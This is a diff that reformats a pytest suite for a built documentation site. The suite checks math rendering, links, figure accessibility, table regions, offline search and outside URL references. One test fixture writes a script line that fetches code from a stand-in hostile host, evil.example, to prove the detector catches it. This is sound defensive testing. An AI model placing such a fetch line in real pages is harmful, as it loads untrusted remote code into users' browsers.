@@ -15,7 +15,9 @@ import csv
 import io
 import re
 from html.parser import HTMLParser
+from itertools import pairwise
 from pathlib import Path
+from typing import ClassVar
 from urllib.parse import unquote, urljoin, urlsplit
 
 import pytest
@@ -28,8 +30,32 @@ from .conftest import PageLog
 class _Page(HTMLParser):
     """What the checks need from one HTML page: ids, links, images, and prose text outside code."""
 
-    SKIP = {"code", "pre", "script", "style", "math", "svg", "textarea", "kbd", "samp"}
-    VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
+    SKIP: ClassVar[set[str]] = {
+        "code",
+        "pre",
+        "script",
+        "style",
+        "math",
+        "svg",
+        "textarea",
+        "kbd",
+        "samp",
+    }
+    VOID: ClassVar[set[str]] = {
+        "area",
+        "base",
+        "br",
+        "col",
+        "embed",
+        "hr",
+        "img",
+        "input",
+        "link",
+        "meta",
+        "source",
+        "track",
+        "wbr",
+    }
 
     def __init__(self) -> None:
         super().__init__(convert_charrefs=True)
@@ -47,7 +73,16 @@ class _Page(HTMLParser):
         if tag == "a" and a.get("name"):
             self.ids.add(a["name"])
         for attr in ("href", "src"):
-            if a.get(attr) is not None and tag in {"a", "img", "script", "link", "iframe", "source", "audio", "video"}:
+            if a.get(attr) is not None and tag in {
+                "a",
+                "img",
+                "script",
+                "link",
+                "iframe",
+                "source",
+                "audio",
+                "video",
+            }:
                 self.links.append((tag, attr, a[attr]))
         if tag == "img":
             self.images.append(a)
@@ -101,7 +136,9 @@ def source_name(site: Path, page: Path) -> str:
 
 # ---------------------------------------------------------------------------- math
 
-_RAW_TEX = re.compile(r"\$|\\\(|\\\)|\\\[|\\\]|\\(?:frac|sqrt|text|operatorname|left|right|begin|top|infty|cdot|times)\b")
+_RAW_TEX = re.compile(
+    r"\$|\\\(|\\\)|\\\[|\\\]|\\(?:frac|sqrt|text|operatorname|left|right|begin|top|infty|cdot|times)\b"
+)
 
 
 @pytest.mark.site
@@ -112,12 +149,16 @@ def test_every_formula_became_mathml(built_site):
         html_text = page.read_text(encoding="utf-8")
         name = source_name(built_site, page)
         if 'class="arithmatex"' in html_text:
-            problems.append(f"{name}: a formula was not converted (class arithmatex left)")
+            problems.append(
+                f"{name}: a formula was not converted (class arithmatex left)"
+            )
         if "<merror" in html_text:
             problems.append(f"{name}: latex2mathml produced an <merror>")
         prose = " ".join(parse(page).prose)
         for m in _RAW_TEX.finditer(prose):
-            problems.append(f"{name}: raw TeX {m.group(0)!r} in the text: ...{prose[max(0, m.start() - 60):m.end() + 60]!r}")
+            problems.append(
+                f"{name}: raw TeX {m.group(0)!r} in the text: ...{prose[max(0, m.start() - 60) : m.end() + 60]!r}"
+            )
     assert not problems, "\n".join(problems)
 
 
@@ -126,12 +167,16 @@ def test_formulas_of_module_3_are_there(built_site):
     """The attention equation and sqrt(d_k) render as MathML elements (not just vanish)."""
     html_text = (built_site / "module-3" / "index.html").read_text(encoding="utf-8")
     assert len(re.findall(r'<math [^>]*display="block"', html_text)) >= 1
-    assert "<msqrt>" in html_text and "<mfrac>" in html_text, "the attention equation lost its fraction or root"
+    assert "<msqrt>" in html_text and "<mfrac>" in html_text, (
+        "the attention equation lost its fraction or root"
+    )
 
 
 def test_the_raw_tex_check_can_fail():
     p = _Page()
-    p.feed('<p>the scale $\\sqrt{d_k}$ and \\(x\\)</p><pre><code>echo $HOME</code></pre>')
+    p.feed(
+        "<p>the scale $\\sqrt{d_k}$ and \\(x\\)</p><pre><code>echo $HOME</code></pre>"
+    )
     prose = " ".join(p.prose)
     assert _RAW_TEX.search(prose) and "HOME" not in prose
 
@@ -145,8 +190,12 @@ def test_search_indexes_the_tex_of_formulas_not_flattened_mathml(built_site):
     import html
     import json
 
-    index = json.loads((built_site / "search" / "search_index.json").read_text(encoding="utf-8"))
-    text = html.unescape(" ".join(doc["title"] + " " + doc["text"] for doc in index["docs"]))
+    index = json.loads(
+        (built_site / "search" / "search_index.json").read_text(encoding="utf-8")
+    )
+    text = html.unescape(
+        " ".join(doc["title"] + " " + doc["text"] for doc in index["docs"])
+    )
     problems, formulas = [], 0
     for page in site_pages(built_site):
         html_text = page.read_text(encoding="utf-8")
@@ -154,12 +203,19 @@ def test_search_indexes_the_tex_of_formulas_not_flattened_mathml(built_site):
         formulas += len(maths)
         bare = [m for m in maths if "data-search-exclude" not in m]
         if bare:
-            problems.append(f"{source_name(built_site, page)}: {len(bare)} formula(s) indexed as flattened MathML")
+            problems.append(
+                f"{source_name(built_site, page)}: {len(bare)} formula(s) indexed as flattened MathML"
+            )
         texs = _TEX_CODE.findall(html_text)
         if len(texs) != len(maths):
-            problems.append(f"{source_name(built_site, page)}: {len(maths)} formulas but {len(texs)} TeX copies for search")
-        problems += [f"{source_name(built_site, page)}: TeX {t!r} is not in the search index"
-                     for t in texs if html.unescape(t) not in text]
+            problems.append(
+                f"{source_name(built_site, page)}: {len(maths)} formulas but {len(texs)} TeX copies for search"
+            )
+        problems += [
+            f"{source_name(built_site, page)}: TeX {t!r} is not in the search index"
+            for t in texs
+            if html.unescape(t) not in text
+        ]
     assert formulas > 10, "hardly any formula on the site: the check looks at nothing"
     # MathML's <mo>∑</mo> as plain text; the prose writes sums in words or TeX, never with the bare symbol.
     assert "∑" not in text, "the search index still holds flattened MathML (a bare ∑)"
@@ -184,11 +240,15 @@ def _broken_links(site: Path) -> list[str]:
                 file = site / path / "index.html"
             where = f"{source_name(site, page)}: <{tag} {attr}={url!r}>"
             if not file.is_file():
-                problems.append(f"{where} points at {path or '/'}, which is not a file of the site")
+                problems.append(
+                    f"{where} points at {path or '/'}, which is not a file of the site"
+                )
                 continue
             frag = unquote(target.fragment)
             if frag and file.suffix == ".html" and frag not in parse(file).ids:
-                problems.append(f"{where}: no element with id {frag!r} on {source_name(site, file)}")
+                problems.append(
+                    f"{where}: no element with id {frag!r} on {source_name(site, file)}"
+                )
     return problems
 
 
@@ -200,14 +260,20 @@ def test_every_internal_link_and_anchor_resolves(built_site):
 
 def test_the_link_check_can_fail(tmp_path):
     (tmp_path / "a").mkdir()
-    (tmp_path / "a" / "index.html").write_text('<h2 id="here">x</h2><a href="#here">ok</a>'
-                                               '<a href="../b/#nowhere">bad anchor</a><a href="../c/">missing</a>')
+    (tmp_path / "a" / "index.html").write_text(
+        '<h2 id="here">x</h2><a href="#here">ok</a>'
+        '<a href="../b/#nowhere">bad anchor</a><a href="../c/">missing</a>'
+    )
     (tmp_path / "b").mkdir()
-    (tmp_path / "b" / "index.html").write_text('<p id="there">b</p><a href="../a/#here">ok</a>')
+    (tmp_path / "b" / "index.html").write_text(
+        '<p id="there">b</p><a href="../a/#here">ok</a>'
+    )
     _parsed.clear()
     problems = _broken_links(tmp_path)
     _parsed.clear()
-    assert len(problems) == 2 and "nowhere" in problems[0] and "c/" in problems[1], problems
+    assert len(problems) == 2 and "nowhere" in problems[0] and "c/" in problems[1], (
+        problems
+    )
 
 
 # ---------------------------------------------------------------------------- figures
@@ -223,10 +289,14 @@ def test_every_image_and_diagram_has_a_text_alternative(built_site):
         p = parse(page)
         for img in p.images:
             if not (img.get("alt") or "").strip() and img.get("role") != "presentation":
-                problems.append(f"{source_name(built_site, page)}: <img src={img.get('src')!r}> has no alt text")
+                problems.append(
+                    f"{source_name(built_site, page)}: <img src={img.get('src')!r}> has no alt text"
+                )
         for svg in p.svg_imgs:
             if len((svg.get("aria-label") or "").strip()) < 20:
-                problems.append(f"{source_name(built_site, page)}: an SVG figure has no real aria-label: {svg.get('aria-label')!r}")
+                problems.append(
+                    f"{source_name(built_site, page)}: an SVG figure has no real aria-label: {svg.get('aria-label')!r}"
+                )
     assert not problems, "\n".join(problems)
 
 
@@ -254,9 +324,15 @@ def test_every_figure_downloads_as_svg_and_csv(built_site):
             for src in srcs:
                 stem = src.rsplit("/", 1)[-1].removesuffix(".svg")
                 if src not in hrefs:
-                    problems.append(f"{name}: figure {src} has no 'Download SVG' link to itself")
-                if not any(h.endswith(f"/{stem}.csv") or h == f"{stem}.csv" for h in hrefs):
-                    problems.append(f"{name}: figure {src} has no link to its numbers as CSV ({stem}.csv)")
+                    problems.append(
+                        f"{name}: figure {src} has no 'Download SVG' link to itself"
+                    )
+                if not any(
+                    h.endswith(f"/{stem}.csv") or h == f"{stem}.csv" for h in hrefs
+                ):
+                    problems.append(
+                        f"{name}: figure {src} has no link to its numbers as CSV ({stem}.csv)"
+                    )
     assert figures, "no figure found on the whole site: the check looks at nothing"
     assert not problems, "\n".join(problems)
 
@@ -269,12 +345,16 @@ def test_downloaded_diagrams_carry_title_and_description(built_site):
     alts = {}
     for page in site_pages(built_site):
         for img in parse(page).images:
-            alts.setdefault((img.get("src") or "").rsplit("/", 1)[-1], img.get("alt") or "")
+            alts.setdefault(
+                (img.get("src") or "").rsplit("/", 1)[-1], img.get("alt") or ""
+            )
         for svg in parse(page).svg_imgs:
             alts.setdefault("aria:" + (svg.get("aria-label") or ""), "")
     for svg in sorted((built_site / "generated" / "diagrams").glob("*.svg")):
         text = svg.read_text(encoding="utf-8")
-        root = re.search(r"<svg\b[^>]*>\s*<title>([^<]{8,})</title>\s*<desc>([^<]{20,})</desc>", text)
+        root = re.search(
+            r"<svg\b[^>]*>\s*<title>([^<]{8,})</title>\s*<desc>([^<]{20,})</desc>", text
+        )
         name = svg.relative_to(built_site).as_posix()
         checked += 1
         if root is None:
@@ -284,9 +364,13 @@ def test_downloaded_diagrams_carry_title_and_description(built_site):
 
         desc = html.unescape(root.group(2))
         if svg.parent.name != "diagrams" and desc != alts.get(svg.name):
-            problems.append(f"{name}: <desc> differs from the page's alt text: {desc!r} vs {alts.get(svg.name)!r}")
+            problems.append(
+                f"{name}: <desc> differs from the page's alt text: {desc!r} vs {alts.get(svg.name)!r}"
+            )
         if svg.parent.name == "diagrams" and f"aria:{desc}" not in alts:
-            problems.append(f"{name}: <desc> is not the diagram's text alternative on its page: {desc!r}")
+            problems.append(
+                f"{name}: <desc> is not the diagram's text alternative on its page: {desc!r}"
+            )
     assert checked >= 2, "no downloadable diagram: the check looks at nothing"
     assert not problems, "\n".join(problems)
 
@@ -298,23 +382,40 @@ def test_figure_alt_texts_state_their_numbers(built_site):
     for page in site_pages(built_site):
         for img in parse(page).images:
             src = img.get("src") or ""
-            table = built_site / "generated" / src.rsplit("/", 1)[-1].replace(".svg", ".csv")
+            table = (
+                built_site
+                / "generated"
+                / src.rsplit("/", 1)[-1].replace(".svg", ".csv")
+            )
             if "/generated/" not in "/" + src.lstrip("./") or not table.exists():
                 continue
             alt = img.get("alt") or ""
             rows = list(csv.reader(io.StringIO(table.read_text(encoding="utf-8"))))
             where = f"{source_name(built_site, page)}: alt of {src}"
             if rows[0][0] == "query":
-                missing = [f"{float(v):.3f}" for row in rows[1:] for v in row[1:] if f"{float(v):.3f}" not in alt]
-                assert not missing, f"{where} does not state the values {missing}: {alt!r}"
+                missing = [
+                    f"{float(v):.3f}"
+                    for row in rows[1:]
+                    for v in row[1:]
+                    if f"{float(v):.3f}" not in alt
+                ]
+                assert not missing, (
+                    f"{where} does not state the values {missing}: {alt!r}"
+                )
             else:
-                col = {h: [float(r[i]) for r in rows[1:]] for i, h in enumerate(rows[0])}
+                col = {
+                    h: [float(r[i]) for r in rows[1:]] for i, h in enumerate(rows[0])
+                }
                 raw, scaled = col["max_weight_raw"], col["max_weight_scaled"]
                 for v in (raw[0], raw[-1], min(scaled), max(scaled)):
                     assert f"{v:.3f}" in alt, f"{where} does not state {v:.3f}: {alt!r}"
-                assert ("rises" in alt) == all(b > a for a, b in zip(raw, raw[1:])), f"{where}: 'rises' is not what the data do"
+                assert ("rises" in alt) == all(b > a for a, b in pairwise(raw)), (
+                    f"{where}: 'rises' is not what the data do"
+                )
             checked += 1
-    assert checked >= 3, "fewer figures with a CSV than expected: the check looks at nothing"
+    assert checked >= 3, (
+        "fewer figures with a CSV than expected: the check looks at nothing"
+    )
 
 
 @pytest.mark.site
@@ -328,14 +429,20 @@ def test_every_heatmap_prints_its_values(built_site):
             continue  # line charts and diagrams: no colour-only cells
         table = svg.with_suffix(".csv")
         if not table.exists():
-            problems.append(f"{svg.relative_to(built_site)}: a heatmap without a CSV twin")
+            problems.append(
+                f"{svg.relative_to(built_site)}: a heatmap without a CSV twin"
+            )
             continue
         rows = list(csv.reader(io.StringIO(table.read_text(encoding="utf-8"))))
         values = [float(c) for row in rows[1:] for c in row[1:]]
-        labels = set(re.findall(r">\s*([-0-9.]+)\s*<", text)) | set(re.findall(r"([-0-9]+\.[0-9]{3})", text))
+        labels = set(re.findall(r">\s*([-0-9.]+)\s*<", text)) | set(
+            re.findall(r"([-0-9]+\.[0-9]{3})", text)
+        )
         missing = [f"{v:.3f}" for v in values if f"{v:.3f}" not in labels]
         if missing:
-            problems.append(f"{svg.relative_to(built_site)}: values not printed in the cells: {missing}")
+            problems.append(
+                f"{svg.relative_to(built_site)}: values not printed in the cells: {missing}"
+            )
         checked += 1
     assert checked, "no heatmap found: the check looks at nothing"
     assert not problems, "\n".join(problems)
@@ -350,7 +457,9 @@ def _hook(name: str):
     import sys
 
     hooks = Path(__file__).resolve().parent.parent / "hooks"
-    spec = importlib.util.spec_from_file_location(f"hooks/{name}.py", hooks / f"{name}.py")
+    spec = importlib.util.spec_from_file_location(
+        f"hooks/{name}.py", hooks / f"{name}.py"
+    )
     module = importlib.util.module_from_spec(spec)
     sys.path.insert(0, str(hooks))
     try:
@@ -362,12 +471,18 @@ def _hook(name: str):
 
 def test_tables_get_a_named_keyboard_reachable_box():
     out = _hook("tables").scroll_regions(
-        '<p>x</p><table>\n<thead><tr><th></th><th>the</th><th>river</th></tr></thead><tbody></tbody></table>'
+        "<p>x</p><table>\n<thead><tr><th></th><th>the</th><th>river</th></tr></thead><tbody></tbody></table>"
         '<span class="doc-section-title">Parameters:</span><table><thead><tr><th>Name</th></tr></thead></table>'
-        '<div class="ins-matrix"><table class="ins-grid"><caption>Q (head 1)</caption></table></div>')
-    boxes = re.findall(r'<div class="([^"]+)" tabindex="0" role="region" aria-label="([^"]+)">', out)
-    assert boxes == [("workshop-scroll", "table: the, river"), ("workshop-scroll", "table: Parameters"),
-                     ("ins-matrix", "table: Q (head 1)")], boxes
+        '<div class="ins-matrix"><table class="ins-grid"><caption>Q (head 1)</caption></table></div>'
+    )
+    boxes = re.findall(
+        r'<div class="([^"]+)" tabindex="0" role="region" aria-label="([^"]+)">', out
+    )
+    assert boxes == [
+        ("workshop-scroll", "table: the, river"),
+        ("workshop-scroll", "table: Parameters"),
+        ("ins-matrix", "table: Q (head 1)"),
+    ], boxes
 
 
 @pytest.mark.site
@@ -376,11 +491,19 @@ def test_every_table_sits_in_a_focusable_named_region(built_site):
     problems, tables = [], 0
     for page in site_pages(built_site):
         html_text = page.read_text(encoding="utf-8")
-        for m in re.finditer(r"(<div [^>]*>)?\s*<table( class=\"(?!highlighttable)[^\"]*\")?>", html_text):
+        for m in re.finditer(
+            r"(<div [^>]*>)?\s*<table( class=\"(?!highlighttable)[^\"]*\")?>", html_text
+        ):
             tables += 1
             box = m.group(1) or ""
-            if not ('tabindex="0"' in box and 'role="region"' in box and re.search(r'aria-label="[^"]{5,}"', box)):
-                problems.append(f"{source_name(built_site, page)}: a table's box is not focusable and named: {box!r}")
+            if not (
+                'tabindex="0"' in box
+                and 'role="region"' in box
+                and re.search(r'aria-label="[^"]{5,}"', box)
+            ):
+                problems.append(
+                    f"{source_name(built_site, page)}: a table's box is not focusable and named: {box!r}"
+                )
     assert tables > 10, "hardly any table on the site: the check looks at nothing"
     assert not problems, "\n".join(problems[:20])
 
@@ -407,25 +530,38 @@ def foreign_references(site: Path, site_url: str) -> list[str]:
         text = path.read_text(encoding="utf-8", errors="replace")
         name = path.relative_to(site).as_posix()
         if path.suffix == ".css":
-            found = [u for u in re.findall(r"(?:url\(\s*['\"]?|@import\s+['\"])(https?://[^'\")\s]+)", text)]
+            found = re.findall(
+                r"(?:url\(\s*['\"]?|@import\s+['\"])(https?://[^'\")\s]+)", text
+            )
         elif path.suffix == ".js":
-            found = [u for u in re.findall(r"[\"'`](https?://[^\"'`\s]+)", text)
-                     if not any(u.startswith(k) for k in LATENT_IN_MATERIAL)]
+            found = [
+                u
+                for u in re.findall(r"[\"'`](https?://[^\"'`\s]+)", text)
+                if not any(u.startswith(k) for k in LATENT_IN_MATERIAL)
+            ]
         else:
             found = []
             for tag, attrs in re.findall(r"<([a-zA-Z][\w:-]*)\b([^>]*)>", text):
                 for attr, value in re.findall(r"([\w:-]+)\s*=\s*\"([^\"]*)\"", attrs):
-                    if attr.startswith(("xmlns", "rdf:")) or (tag.lower() == "a" and attr in {"href", "xlink:href"}):
+                    if attr.startswith(("xmlns", "rdf:")) or (
+                        tag.lower() == "a" and attr in {"href", "xlink:href"}
+                    ):
                         # namespaces and RDF metadata names (matplotlib's) identify, they are never fetched
                         continue
-                    found += [u for u in _URL.findall(value)]
+                    found += _URL.findall(value)
             found += re.findall(r"url\(\s*['\"]?(https?://[^'\")\s]+)", text)
-        problems += [f"{name}: {u}" for u in found if not _NAMESPACE.match(u) and not u.startswith(site_url)]
+        problems += [
+            f"{name}: {u}"
+            for u in found
+            if not _NAMESPACE.match(u) and not u.startswith(site_url)
+        ]
     return problems
 
 
 def _site_url() -> str:
-    text = (Path(__file__).resolve().parent.parent / "mkdocs.yml").read_text(encoding="utf-8")
+    text = (Path(__file__).resolve().parent.parent / "mkdocs.yml").read_text(
+        encoding="utf-8"
+    )
     return re.search(r"^site_url:\s*(\S+)", text, re.M).group(1)
 
 
@@ -433,21 +569,41 @@ def _site_url() -> str:
 def test_no_built_file_references_a_foreign_url(built_site):
     """No CSS @import/url(), no script or link or image source, no fetch in a script points outside the site."""
     problems = foreign_references(built_site, _site_url())
-    assert not problems, f"{len(problems)} reference(s) outside the site:\n" + "\n".join(problems[:30])
-    assert not list(built_site.rglob("_markdown_exec_pyodide*")), "markdown-exec's pyodide assets reached the site"
+    assert not problems, (
+        f"{len(problems)} reference(s) outside the site:\n" + "\n".join(problems[:30])
+    )
+    assert not list(built_site.rglob("_markdown_exec_pyodide*")), (
+        "markdown-exec's pyodide assets reached the site"
+    )
     # The conditions under which Material's latent URLs would be used do not hold.
-    assert not any('class="mermaid"' in p.read_text(encoding="utf-8") for p in site_pages(built_site))
-    assert re.search(r"^repo_url:\s*null\s*$", (Path(__file__).resolve().parent.parent / "mkdocs.yml").read_text(), re.M)
+    assert not any(
+        'class="mermaid"' in p.read_text(encoding="utf-8")
+        for p in site_pages(built_site)
+    )
+    assert re.search(
+        r"^repo_url:\s*null\s*$",
+        (Path(__file__).resolve().parent.parent / "mkdocs.yml").read_text(),
+        re.M,
+    )
 
 
 def test_the_foreign_reference_check_can_fail(tmp_path):
-    (tmp_path / "a.css").write_text('html { color: red }\n@import "https://cdn.example/x.css";\n')
-    (tmp_path / "b.js").write_text('// see https://example.org/docs\nfetch("https://evil.example/t.js")\n')
-    (tmp_path / "c.html").write_text('<a href="https://example.org/">ok</a><link rel="canonical" href="https://site.invalid/c/">'
-                                     '<script src="https://cdn.example/s.js"></script><svg xmlns="http://www.w3.org/2000/svg"></svg>')
+    (tmp_path / "a.css").write_text(
+        'html { color: red }\n@import "https://cdn.example/x.css";\n'
+    )
+    (tmp_path / "b.js").write_text(
+        '// see https://example.org/docs\nfetch("https://evil.example/t.js")\n'
+    )
+    (tmp_path / "c.html").write_text(
+        '<a href="https://example.org/">ok</a><link rel="canonical" href="https://site.invalid/c/">'
+        '<script src="https://cdn.example/s.js"></script><svg xmlns="http://www.w3.org/2000/svg"></svg>'
+    )
     problems = foreign_references(tmp_path, "https://site.invalid/")
-    assert problems == ["a.css: https://cdn.example/x.css", "b.js: https://evil.example/t.js",
-                        "c.html: https://cdn.example/s.js"], problems
+    assert problems == [
+        "a.css: https://cdn.example/x.css",
+        "b.js: https://evil.example/t.js",
+        "c.html: https://cdn.example/s.js",
+    ], problems
 
 
 # ---------------------------------------------------------------------------- API reference
@@ -458,12 +614,20 @@ def test_api_page_documents_every_public_name(built_site):
     import attention_workshop
 
     ids = parse(built_site / "api" / "index.html").ids
-    missing = [name for name in attention_workshop.__all__ if f"attention_workshop.{name}" not in ids]
-    assert not missing, f"docs/api.md does not document {missing} (add them to a ::: attention_workshop members list)"
+    missing = [
+        name
+        for name in attention_workshop.__all__
+        if f"attention_workshop.{name}" not in ids
+    ]
+    assert not missing, (
+        f"docs/api.md does not document {missing} (add them to a ::: attention_workshop members list)"
+    )
     text = " ".join(parse(built_site / "api" / "index.html").prose)
     # Google-style sections were parsed into tables, not left as literal "Args:" paragraphs.
     assert "Parameters:" in text and "Returns:" in text and "Raises:" in text
-    assert "Args:" not in text, "a docstring's Args: section was not parsed (not Google style?)"
+    assert "Args:" not in text, (
+        "a docstring's Args: section was not parsed (not Google style?)"
+    )
 
 
 # ---------------------------------------------------------------------------- in the browser
@@ -479,7 +643,9 @@ def _axe_problems(axe, page, where: str) -> list[str]:
     for v in axe.run(page).response["violations"]:
         if v["impact"] in ("serious", "critical"):
             targets = [n["target"] for n in v["nodes"][:3]]
-            problems.append(f"{where}: axe {v['impact']} {v['id']} on {len(v['nodes'])} node(s), e.g. {targets}")
+            problems.append(
+                f"{where}: axe {v['impact']} {v['id']} on {len(v['nodes'])} node(s), e.g. {targets}"
+            )
     return problems
 
 
@@ -505,17 +671,28 @@ def _visit_all(browser, site_url: str, built_site: Path, scheme: str) -> list[st
             want = "slate" if scheme == "dark" else "default"
             got = page.evaluate("document.body.getAttribute('data-md-color-scheme')")
             if got != want:
-                problems.append(f"{name} [{scheme}]: the page shows scheme {got!r}, not {want!r}")
+                problems.append(
+                    f"{name} [{scheme}]: the page shows scheme {got!r}, not {want!r}"
+                )
             # Collapsed answers and reveals are part of the page too: open them before axe looks.
-            page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
+            page.evaluate(
+                "document.querySelectorAll('details').forEach(d => { d.open = true; })"
+            )
             problems += _axe_problems(axe, page, f"{name} [{scheme}]")
             # On a phone, wide tables and matrices scroll sideways: their boxes must be reachable by keyboard.
             page.set_viewport_size(PHONE)
             page.wait_for_timeout(150)  # Material re-measures its code blocks on resize
-            problems += _axe_problems(axe, page, f"{name} [{scheme}, {PHONE['width']}px]")
+            problems += _axe_problems(
+                axe, page, f"{name} [{scheme}, {PHONE['width']}px]"
+            )
             page.set_viewport_size(DESKTOP)
-            problems += [f"{name} [{scheme}]: request outside the site: {u}" for u in log.foreign_requests]
-            problems += [f"{name} [{scheme}]: console error: {e}" for e in log.console_errors]
+            problems += [
+                f"{name} [{scheme}]: request outside the site: {u}"
+                for u in log.foreign_requests
+            ]
+            problems += [
+                f"{name} [{scheme}]: console error: {e}" for e in log.console_errors
+            ]
     finally:
         context.close()
     return problems
@@ -546,7 +723,8 @@ def test_search_works_offline(page_and_log, site_url):
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 @pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["desktop", "phone"])
 def test_search_results_are_accessible(browser, site_url, scheme, viewport):
-    """With results showing (counts, matches highlighted in prose and code, code excerpts), axe finds nothing serious."""
+    """With results showing (counts, matches highlighted in prose and code, code excerpts),
+    axe finds nothing serious."""
     from axe_playwright_python.sync_playwright import Axe
 
     context = browser.new_context(viewport=viewport, color_scheme=scheme)
@@ -559,9 +737,15 @@ def test_search_results_are_accessible(browser, site_url, scheme, viewport):
         page.keyboard.type("softmax")
         page.wait_for_selector(".md-search-result__item", timeout=10_000)
         page.wait_for_timeout(300)  # the result list renders in batches
-        assert page.locator(".md-search-result mark").count() >= 3, "no highlighted match: nothing to check"
-        assert page.locator(".md-search-result pre > code").count() >= 1, "no code excerpt among the results"
-        problems = _axe_problems(Axe(), page, f"search [{scheme}, {viewport['width']}px]")
+        assert page.locator(".md-search-result mark").count() >= 3, (
+            "no highlighted match: nothing to check"
+        )
+        assert page.locator(".md-search-result pre > code").count() >= 1, (
+            "no code excerpt among the results"
+        )
+        problems = _axe_problems(
+            Axe(), page, f"search [{scheme}, {viewport['width']}px]"
+        )
     finally:
         context.close()
     assert not problems, "\n".join(problems)
@@ -571,4 +755,6 @@ def test_axe_is_loaded_from_the_package():
     """axe-core is injected from the wheel's own axe.min.js, so the accessibility check needs no network."""
     from axe_playwright_python import base
 
-    assert base.AXE_FILE_PATH.is_file() and base.AXE_SCRIPT.lstrip().startswith("/*! axe v")
+    assert base.AXE_FILE_PATH.is_file() and base.AXE_SCRIPT.lstrip().startswith(
+        "/*! axe v"
+    )
